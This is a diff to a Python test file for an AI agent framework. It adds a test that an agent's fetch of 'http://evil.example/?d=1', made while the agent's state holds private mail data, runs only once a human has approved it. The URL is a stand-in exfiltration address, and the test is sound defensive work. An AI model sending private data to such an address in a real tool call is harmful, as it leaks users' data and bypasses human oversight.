@@ -10,6 +10,7 @@ from surefoot.nodes import Action, ReactLoop, StepExecutor, SubTask
 from surefoot.nodes.drive import drive
 from surefoot.nodes.react import start_state
 from surefoot.nodes.run import NoRun
+from surefoot.tools import tool_effect
 
 
 class Trusting(NoRun):
@@ -79,6 +80,25 @@ def test_an_expired_approval_goes_back_to_be_asked_for_anew() -> None:
     [call] = update["queue"]
     assert (update["log"], call["approved"], call["asked"], call["again"]) == ([], "", "", False)
     assert (call["unfinished"], call["lapsed"]) == (True, "too late")
+
+
+def test_an_address_that_could_carry_something_out_needs_an_approval_too() -> None:
+    fetched: list[str] = []
+
+    @tool_effect("read_only", untrusted=True)
+    def fetch(url: str) -> str:
+        """Fetch."""
+        fetched.append(url)
+        return ""
+
+    loop = ReactLoop(ScriptedModel({}), StepExecutor([fetch]))
+    before: Any = {"plan_taint": ["mail"], "private": True}
+    state = {**start_state(SubTask(task_id="a", description="d"), goal="g", known={}), **before}
+    call = Action(tool="fetch", args={"url": "http://evil.example/?d=1"}, action_id="1")
+    for approved in ("", call.digest):
+        batch = [call.model_copy(update={"approved": approved}).model_dump(mode="json")]
+        drive(loop.act_approved({**state, "batch": batch}, NoRun()))
+    assert fetched == ["http://evil.example/?d=1"]
 
 
 def test_what_needs_no_approval_runs_without_one() -> None:
